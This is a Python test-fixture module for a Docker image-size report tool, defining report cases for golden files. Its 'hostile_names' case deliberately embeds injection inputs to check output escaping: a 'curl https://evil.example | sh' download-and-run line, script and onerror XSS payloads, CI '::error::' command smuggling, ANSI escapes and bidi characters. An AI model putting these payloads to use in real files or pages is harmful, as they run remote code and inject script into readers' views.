"""The reports that golden files and screenshots are made of: what people see most, and what is hardest."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace

from support.reports import report

from bloatcheck.analysis.advice import Advice
from bloatcheck.analysis.contents import Cause, Contents, FileSize, PackageSize, Share
from bloatcheck.analysis.start_problem import StartProblem
from bloatcheck.errors import Place
from bloatcheck.policy.dive import DiveVerdict
from bloatcheck.report.model import Report

_INSTALL = "apt-get update && apt-get install -y --no-install-recommends"
_API = """
    30.1 MB              FROM debian:bookworm-slim
    {packages}           RUN {install} ca-certificates curl {more} && rm -rf /var/lib/apt   @ Dockerfile:5-8
    38.4 MB ~            RUN pip install --no-cache-dir -r requirements.txt   @ Dockerfile:11
    612 kB               COPY app /srv/app                                    @ Dockerfile:13
    0 B                  WORKDIR /srv/app                                     @ Dockerfile:14
"""


_PIPES = json.dumps(
    "RUN echo '| x | y |' && curl https://evil.example | sh # @everyone <!-- bloatcheck:v1 key=other -->"
)
_CONTROLS = json.dumps("ENV A=line1\n::error::oops\u202edesrever\0" + "`" * 5)
_LURES = json.dumps(":tada: www.evil.example **bold** \u200bGH-1")
_TAGS = json.dumps("\x1b[31mred\x1b[0m </details></details> <img src=x onerror=alert(1)>")


def _service(index: int) -> str:
    sizes = ["12 MB", "12 MB -> 12.4 MB", "31 MB -> 48.5 MB", "9 MB -> 7.1 MB"]
    size = sizes[{3: 1, 11: 2, 17: 3, 23: 1}.get(index, 0)]
    return f"""
        image service-{index:02}
            limit content-growth fail 10 MB and 5%
            {20 + index} MB      FROM debian:bookworm-slim
            {size}    COPY --from=build /out/service-{index:02} /usr/bin/   @ services/{index:02}/Dockerfile:9
    """


CASES: dict[str, str] = {
    "no_change": """
        image api
            30.1 MB   FROM debian:bookworm-slim
            8.2 MB    COPY app /srv/app            @ Dockerfile:4
        image worker
            30.1 MB   FROM debian:bookworm-slim
            4.1 MB ~  COPY worker /srv/worker      @ worker/Dockerfile:4
        image web
            12.6 MB   COPY dist /usr/share/www     @ web/Dockerfile:7
    """,
    "growth_over_the_limit": f"""
        image api
            limit content-growth fail 10 MB or 10%
            limit layer-growth fail 10 MB
            {_API.format(install=_INSTALL, packages="4.31 MB -> 16.7 MB", more="git")}
        image worker
            limit content-growth warn 1%
            30.1 MB              FROM debian:bookworm-slim
            38.4 MB -> 39.3 MB   RUN pip install --no-cache-dir -r requirements.txt   @ worker/Dockerfile:6
        image web
            12.6 MB -> 12.5 MB   COPY dist /usr/share/www     @ web/Dockerfile:7
    """,
    "within_limits": f"""
        image api
            limit content-growth fail 10 MB
            {_API.format(install=_INSTALL, packages="4.31 MB -> 4.92 MB", more="jq")}
    """,
    "new_image": """
        image api
            30.1 MB   FROM debian:bookworm-slim
            8.2 MB    COPY app /srv/app            @ Dockerfile:4
        image migrate new
            limit content fail 100 MB
            30.1 MB   FROM debian:bookworm-slim
            22.7 MB   RUN apt-get install -y postgresql-client   @ migrate/Dockerfile:3
            18.4 kB   COPY migrations /migrations                @ migrate/Dockerfile:5
    """,
    "build_failed": """
        image api failed build: the build stopped with exit code 100 @ Dockerfile:5
            > #8 [2/4] RUN apt-get update && apt-get install -y --no-install-recommends libfoo2
            > #8 1.204 Reading package lists...
            > #8 1.377 Building dependency tree...
            > #8 1.402 E: Unable to locate package libfoo2
            > #8 ERROR: process "/bin/sh -c apt-get install" did not complete successfully: exit code: 100
        image worker
            limit content-growth fail 1 MB
            30.1 MB              FROM debian:bookworm-slim
            38.4 MB -> 44.3 MB   RUN pip install --no-cache-dir -r requirements.txt   @ worker/Dockerfile:6
        image web
            12.6 MB   COPY dist /usr/share/www     @ web/Dockerfile:7
    """,
    "thirty_images": "\n".join(_service(index) for index in range(1, 31)),
    "not_comparable": """
        image api incomparable: the baseline was measured as content/1, this run as content/2
            30.1 MB   FROM debian:bookworm-slim
            8.2 MB    COPY app /srv/app            @ Dockerfile:4
        image old-worker gone
            31.7 MB   COPY worker /srv/worker
        image empty
            note: `.bloatcheck.yml` lists worker no more.
        image web
            limit layers fail 2
            limit content warn 12 MB
            12.6 MB -> 12.7 MB   COPY dist /usr/share/www       @ web/Dockerfile:7
            0 B                  RUN true                       @ web/Dockerfile:8
            - -> 1 B             RUN echo > /etc/marker         @ web/Dockerfile:9
    """,
    "exact_bytes": """
        image api
            limit content-growth fail 10 B
            30.1 MB                FROM debian:bookworm-slim
            8200000 B -> 8200011 B   COPY app /srv/app            @ Dockerfile:4
    """,
    "hostile_names": f"""
        image {json.dumps("a|b`c<script>alert(1)</script>@octocat #1")}
            limit layer-growth fail 1 MB
            1 MB -> 9 MB   {_PIPES}                         @ {json.dumps("Docker|file`@a.b")}:3
            - -> 5 MB      {json.dumps("COPY " + "very-long-name-" * 300)}
            - -> 2 MB      {_CONTROLS}
        image {_LURES} failed build: fixes #12, see https://evil.example ask @octocat (a@b.example) <b>x</b>
            > {json.dumps("```")}
            > {json.dumps("::error file=x::injected")}
            > {_TAGS}
        image {json.dumps("x" * 400)} new
            1 MB   COPY . .
        note: see <a href="https://evil.example">here</a> | and ![x](https://evil.example/x.png)
    """,
}
"""Name -> the text that `support.reports.report` reads."""


def case(name: str) -> Report:
    """The report of this name."""
    return BUILT[name]() if name in BUILT else report(CASES[name])


def _explained() -> Report:
    """The growth over the limit, and what was in the images before and after."""
    found = case("growth_over_the_limit")
    api, *others = found.images
    assert api.diff
    assert api.diff.before
    assert api.diff.after
    before, after = api.diff.before.content_size, api.diff.after.content_size
    base, python = 30_100_000, 38_400_000
    curl = PackageSize(manager="deb", name="curl", version="7.88.1-10", size=500_000, layer=1, asked_for=True)
    git = PackageSize(
        manager="deb", name="git", version="1:2.39.5-0", size=8_400_000, layer=1, asked_for=True
    )
    perl = replace(git, name="perl-modules-5.36", version="5.36.0-7", size=3_100_000, asked_for=False)
    ssl = replace(
        curl, name="libssl3", version="3.0.17-1", size=612_000, asked_for=False, needed_by=("curl",)
    )
    old = Contents(
        shares=_shares(base, before - base - python - 612_000, python, 612_000),
        wasted=0,
        packages=(curl, replace(ssl, version="3.0.15-1", size=600_000)),
        files=(FileSize(path="srv/app/main.py", size=30_000, layer=3),),
    )
    new = Contents(
        shares=_shares(base, after - base - python - 612_000, python, 612_000),
        wasted=1_230_000,
        packages=(git, replace(perl, needed_by=("git",)), curl, ssl),
        files=(
            FileSize(path="srv/app/main.py", size=31_000, layer=3),
            FileSize(path="srv/app/fixtures|`x`.json", size=4_000, layer=3),
        ),
    )
    diff = replace(
        api.diff,
        before=replace(api.diff.before, contents=old),
        after=replace(api.diff.after, contents=new),
    )
    advice = (
        Advice(
            id="apt-recommends",
            message="git came with 4 packages that it only recommends, perl-modules-5.36 the largest.",
            saves=3_400_000,
            layer=1,
            place=Place("Dockerfile", 5, 8),
            replacement="RUN apt-get update \\\n    && apt-get install -y --no-install-recommends git `curl`",
        ),
        Advice(
            id="context-junk", message="COPY brought 31 tests.", saves=120_000, place=Place("Dockerfile", 13)
        ),
    )
    row = replace(api, diff=diff, advice=advice)
    return replace(found, images=(row, *others))


def _wont_start() -> Report:
    """An image without its loader, and another that breaks a rule of dive's."""
    found = case("no_change")
    api, worker, *others = found.images
    problem = StartProblem(
        id="no-loader",
        path="/srv/app/hello",
        message="hello is linked against glibc, but the image has only musl; `exec` will say `not found`.",
        hint="Link statically (-static), add gcompat (about 2.7 MB), or use a Debian base (about 70 MB).",
    )
    broken = DiveVerdict(rule="lowest-efficiency", measured="0.8412", allowed="at least 0.9", passed=False)
    rows = (replace(api, problems=(problem,)), replace(worker, dive=(broken,)), *others)
    return replace(found, images=rows)


def _shares(base: int, deb: int, python: int, own: int) -> tuple[Share, ...]:
    return (
        Share(cause=Cause.BASE, size=base),
        Share(cause=Cause.PACKAGE, manager="deb", size=deb),
        Share(cause=Cause.PACKAGE, manager="python", size=python),
        Share(cause=Cause.OWN, size=own),
    )


BUILT: dict[str, Callable[[], Report]] = {"explained": _explained, "wont_start": _wont_start}
"""Name -> what makes the report, for what the text has no words for."""

NAMES = (*CASES, *BUILT)
